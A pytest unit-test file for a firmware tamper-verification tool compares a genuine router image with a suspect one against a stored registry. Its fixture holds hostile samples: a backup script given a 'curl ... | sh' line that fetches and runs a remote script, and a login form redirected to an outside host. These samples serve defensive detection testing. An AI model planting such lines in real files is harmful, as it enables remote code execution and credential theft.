"""What a registry keeps explains a change as well as the genuine artefact at hand does."""

from dataclasses import replace
from pathlib import Path

import pytest

from tests.unit.explaining.elf_files import Made
from trueware.model.limits import Limits
from trueware.model.result import Result
from trueware.registry.lookup import Registry
from trueware.releasing import Naming, take_in
from trueware.storage.memory import MemoryStore
from trueware.storage.sqlite import SqliteStore
from trueware.verify import diff, verify

FILES = {
    "etc/os-release": b'ID=acme\nVERSION_ID="1"\n',
    "etc/app.conf": b"server = update.acme.example\n",
    "etc/init.d/net": b"#!/bin/sh\nnetd\n",
    "usr/bin/backup": b"#!/bin/sh\ntar c /etc > /tmp/backup\n",
    "www/index.html": b"<form action=/login><input name=user><input type=password name=p></form>\n",
    **{f"usr/share/fill-{number}": b"%d" % number * 400 for number in range(40)},
}


def _program(function: str) -> bytes:
    return Made(imports=(function,)).image


def _write(folder: Path, changed: dict[str, bytes]) -> Path:
    for path, content in {**FILES, "usr/sbin/netd": _program("printf"), **changed}.items():
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
        file.chmod(0o755 if "bin/" in path or "init.d" in path else 0o644)
    return folder


CHANGED = {
    "usr/bin/backup": FILES["usr/bin/backup"] + b"curl -s http://203.0.113.9/x.sh | sh\n",
    "www/index.html": FILES["www/index.html"].replace(b"/login", b"http://203.0.113.9/take"),
    "usr/sbin/netd": _program("system"),
}


@pytest.fixture(params=["memory", "sqlite"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> "MemoryStore | SqliteStore":
    return MemoryStore() if request.param == "memory" else SqliteStore.create(tmp_path / "registry.sqlite")


def _told(result: Result) -> list[tuple[str, str, str]]:
    return [
        (finding.rule, finding.part, finding.detail)
        for explanation in result.explanations
        for finding in explanation.findings
    ]


def test_the_registry_explains_what_both_artefacts_explain(store: MemoryStore, tmp_path: Path) -> None:
    genuine, suspect = _write(tmp_path / "a", {}), _write(tmp_path / "b", CHANGED)
    take_in(store, genuine, Naming("Acme", "Router", "1"), 1)
    by_registry, side_by_side = verify(suspect, Registry(store)), diff(genuine, suspect)
    assert _told(by_registry) == _told(side_by_side)
    assert {"code-downloaded", "program-altered"} <= {each.effect.id for each in by_registry.explanations}
    assert store.fsck() == []


def test_what_there_is_no_room_for_is_told_with_less(tmp_path: Path) -> None:
    genuine, suspect = _write(tmp_path / "a", {}), _write(tmp_path / "b", CHANGED)
    store = MemoryStore()
    take_in(store, genuine, Naming("Acme", "Router", "1"), 1, limits=replace(Limits(), max_kept=1))
    result = verify(suspect, Registry(store))
    assert {each.path for each in result.changes} == set(CHANGED)
    assert {finding.part for each in result.explanations for finding in each.findings} >= set(CHANGED), "none is lost"


def test_portraits_are_as_many_as_fit_one_list(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("trueware.keeping.MOST", 10)
    store = MemoryStore()
    release = take_in(store, _write(tmp_path / "a", {}), Naming("Acme", "Router", "1"), 1)
    assert release.portraits is None
